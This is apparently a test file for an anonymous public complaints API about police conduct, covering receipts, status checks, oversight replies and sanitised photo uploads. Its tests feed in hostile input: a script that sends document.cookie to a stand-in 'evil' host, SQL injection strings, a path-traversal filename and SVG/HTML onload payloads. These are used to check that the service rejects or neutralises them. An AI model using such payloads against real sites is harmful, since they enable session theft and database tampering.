import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe } from 'node:test';
import { dbTest } from '../../db/testing.ts';
import { buildAccountabilityApp, buildAccountabilityWorld, jpegWithGps } from './accountability.testing.ts';

const complaint = {
  language: 'ht',
  kind: 'excessive_force',
  what: 'Yon polisye etranje frape m nan baraj la.',
  when: 'yè swa',
  where: { place: 'Delmas 33', point: { lat: 18.55, lon: -72.3 } },
  who: { contingent: 'KEN', unit: 'patrol 4', vehicle: 'KDF 123', description: 'tall, blue helmet' },
  contact: { name: 'Marie Joseph', phone: '+509 3700 1234', email: 'marie@example.ht', preferred: 'sms' },
};

describe('public complaints', () => {
  dbTest('anyone files a complaint without an account, gets a receipt, checks it and adds information and a photo', async ({ db }) => {
    const { app, dataDir, close } = await buildAccountabilityApp(db);
    const world = await buildAccountabilityWorld(db);

    const filed = await app.inject({ method: 'POST', url: '/api/v1/complaints', payload: complaint });
    assert.equal(filed.statusCode, 201, filed.body);
    assert.equal(filed.headers['cache-control'], 'no-store');
    const { receipt, status } = filed.json<{ receipt: string; status: string }>();
    assert.match(receipt, /^[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}$/);
    assert.equal(status, 'received');
    // The code itself is nowhere in the database.
    const stored = await db.selectFrom('complaints').selectAll().execute();
    assert.equal(stored.length, 1);
    assert.ok(!JSON.stringify(stored).includes(receipt) && !JSON.stringify(stored).includes(receipt.replaceAll('-', '')));

    const check = await app.inject({ method: 'POST', url: '/api/v1/complaints/status', payload: { receipt: receipt.toLowerCase().replaceAll('-', ' ') } });
    assert.equal(check.statusCode, 200, check.body);
    const view = check.json();
    assert.equal(view.status, 'received');
    assert.equal(view.additions, 0);
    assert.ok(!JSON.stringify(view).includes('Marie') && !JSON.stringify(view).includes('frape'), 'the status never shows the content');

    const added = await app.inject({ method: 'POST', url: '/api/v1/complaints/additions', payload: { receipt, text: 'Te gen de lòt temwen.' } });
    assert.equal(added.statusCode, 201, added.body);

    const photo = await app.inject({
      method: 'POST',
      url: '/api/v1/complaints/attachments',
      headers: { 'content-type': 'application/octet-stream', 'x-konbit-receipt': receipt, 'x-konbit-filename': encodeURIComponent('../../../var/www/foto.jpg') },
      payload: jpegWithGps(),
    });
    assert.equal(photo.statusCode, 201, photo.body);
    assert.equal(photo.json().mediaType, 'image/jpeg');
    assert.ok(photo.json().metadataRemoved.includes('EXIF (APP1)'));
    // Stored under random names inside the data folder, never under the name sent.
    const folder = path.join(dataDir, 'accountability', 'attachments');
    const files = readdirSync(folder).sort();
    assert.equal(files.length, 2);
    for (const file of files) assert.match(file, /^[0-9a-f-]{36}\.(clean|original)$/);
    const clean = readFileSync(path.join(folder, files[0]!));
    assert.ok(!clean.includes('Exif') && !clean.includes('KBCAM'));

    const after = await app.inject({ method: 'POST', url: '/api/v1/complaints/status', payload: { receipt } });
    assert.equal(after.json().additions, 1);
    assert.equal(after.json().attachments, 1);

    // The oversight body answers; the answer reaches whoever holds the receipt.
    const [row] = await db.selectFrom('complaints').select('id').execute();
    const note = await app.inject({ method: 'POST', url: `/api/v1/oversight/complaints/${row!.id}/notes`, headers: world.investigator.headers, payload: { text: 'Nou resevwa l. N ap rele w.', toComplainant: true } });
    assert.equal(note.statusCode, 200, note.body);
    await app.inject({ method: 'POST', url: `/api/v1/oversight/complaints/${row!.id}/notes`, headers: world.investigator.headers, payload: { text: 'internal: check patrol roster' } });
    const answered = await app.inject({ method: 'POST', url: '/api/v1/complaints/status', payload: { receipt } });
    assert.deepEqual(answered.json().messages.map((m: { text: string }) => m.text), ['Nou resevwa l. N ap rele w.']);
    await close();
  });

  dbTest('a wrong code and a malformed one get the same 404', async ({ db }) => {
    const { app, close } = await buildAccountabilityApp(db);
    const wrong = await app.inject({ method: 'POST', url: '/api/v1/complaints/status', payload: { receipt: 'K7Q2-9XJD-M4TP' } });
    const malformed = await app.inject({ method: 'POST', url: '/api/v1/complaints/status', payload: { receipt: "' OR 1=1 --      " } });
    assert.equal(wrong.statusCode, 404);
    assert.deepEqual(wrong.json(), malformed.json());
    const addition = await app.inject({ method: 'POST', url: '/api/v1/complaints/additions', payload: { receipt: 'K7Q2-9XJD-M4TP', text: 'x' } });
    assert.equal(addition.statusCode, 404);
    await close();
  });

  dbTest('hostile input: scripts stay text, oversized and unknown fields are refused, disguised files too', async ({ db }) => {
    const { app, close } = await buildAccountabilityApp(db);
    const world = await buildAccountabilityWorld(db);
    const script = '<script>fetch("//evil/"+document.cookie)</script><img src=x onerror=alert(1)>\u001b[2J\u202e';
    const filed = await app.inject({ method: 'POST', url: '/api/v1/complaints', payload: { what: script, who: { description: '"; drop table complaints; --' } } });
    assert.equal(filed.statusCode, 201, filed.body);
    const { receipt } = filed.json<{ receipt: string }>();
    const [row] = await db.selectFrom('complaints').select(['id', 'what']).execute();
    // Stored as the text it is (less the terminal escape and the bidi override), and returned as a JSON string.
    assert.equal(row!.what, '<script>fetch("//evil/"+document.cookie)</script><img src=x onerror=alert(1)>[2J');
    const detail = await app.inject({ method: 'GET', url: `/api/v1/oversight/complaints/${row!.id}`, headers: world.investigator.headers });
    assert.match(detail.headers['content-type'] as string, /^application\/json/);
    assert.equal(detail.json().what, row!.what);
    assert.equal(detail.json().accused.description, '"; drop table complaints; --');

    const tooLong = await app.inject({ method: 'POST', url: '/api/v1/complaints', payload: { what: 'a'.repeat(10_001) } });
    assert.equal(tooLong.statusCode, 400);
    assert.equal(tooLong.json().error.code, 'VALIDATION_FAILED');
    const huge = await app.inject({ method: 'POST', url: '/api/v1/complaints', headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ what: 'b'.repeat(2_000_000) }) });
    assert.equal(huge.statusCode, 413);
    const unknown = await app.inject({ method: 'POST', url: '/api/v1/complaints', payload: { what: 'x', status: 'closed' } });
    assert.equal(unknown.statusCode, 400);
    const empty = await app.inject({ method: 'POST', url: '/api/v1/complaints', payload: { what: '   ' } });
    assert.equal(empty.statusCode, 400);
    const form = await app.inject({ method: 'POST', url: '/api/v1/complaints', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'what=x' });
    assert.equal(form.statusCode, 415);

    const upload = (payload: Buffer, headers: Record<string, string> = {}) =>
      app.inject({ method: 'POST', url: '/api/v1/complaints/attachments', headers: { 'content-type': 'image/jpeg', 'x-konbit-receipt': receipt, 'x-konbit-filename': 'photo.jpg', ...headers }, payload });
    const disguised = await upload(Buffer.from('<html><script>alert(1)</script></html>'));
    assert.equal(disguised.statusCode, 415);
    assert.match(disguised.json().error.message, /whatever its name says/);
    const svg = await upload(Buffer.from('<svg onload="alert(1)"/>'), { 'content-type': 'image/png', 'x-konbit-filename': 'x.png' });
    assert.equal(svg.statusCode, 415);
    const truncated = await upload(jpegWithGps().subarray(0, 60));
    assert.equal(truncated.statusCode, 400);
    const big = await upload(Buffer.concat([jpegWithGps(), Buffer.alloc(6 * 1024 * 1024)]));
    assert.equal(big.statusCode, 413);
    const noReceipt = await app.inject({ method: 'POST', url: '/api/v1/complaints/attachments', headers: { 'content-type': 'image/jpeg' }, payload: jpegWithGps() });
    assert.equal(noReceipt.statusCode, 400);
    const html = await upload(jpegWithGps(), { 'content-type': 'text/html' });
    assert.equal(html.statusCode, 415);
    assert.equal((await db.selectFrom('complaint_attachments').selectAll().execute()).length, 0);
    await close();
  });

  dbTest('a signed-in user files like the public: no account is tied to the complaint', async ({ db }) => {
    const { app, close } = await buildAccountabilityApp(db);
    const world = await buildAccountabilityWorld(db);
    const filed = await app.inject({ method: 'POST', url: '/api/v1/complaints', headers: world.jamCommander.headers, payload: { what: 'I saw it happen' } });
    assert.equal(filed.statusCode, 201);
    const audit = await db.selectFrom('audit_log').selectAll().where('entity_type', '=', 'complaint').execute();
    assert.equal(audit.length, 1);
    assert.equal(audit[0]!.actor_user_id, null);
    assert.equal(audit[0]!.actor_org_id, null);
    await close();
  });
});
